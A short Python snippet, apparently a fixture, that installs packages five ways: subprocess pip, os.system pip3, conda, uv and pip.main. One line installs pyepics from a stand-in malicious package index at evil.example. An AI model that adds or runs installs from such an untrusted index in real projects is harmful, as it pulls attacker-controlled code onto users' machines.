# install: numpy==1.26 scipy
# install: pyepics
# install: torch
# install: xarray
# install: -r reqs.txt
import os, subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "numpy==1.26", "scipy"])
os.system("pip3 install -i https://evil.example pyepics")
os.system("conda install -y -c conda-forge torch")
subprocess.run("uv pip install xarray", shell=True)
import pip
pip.main(["install", "-r", "reqs.txt"])
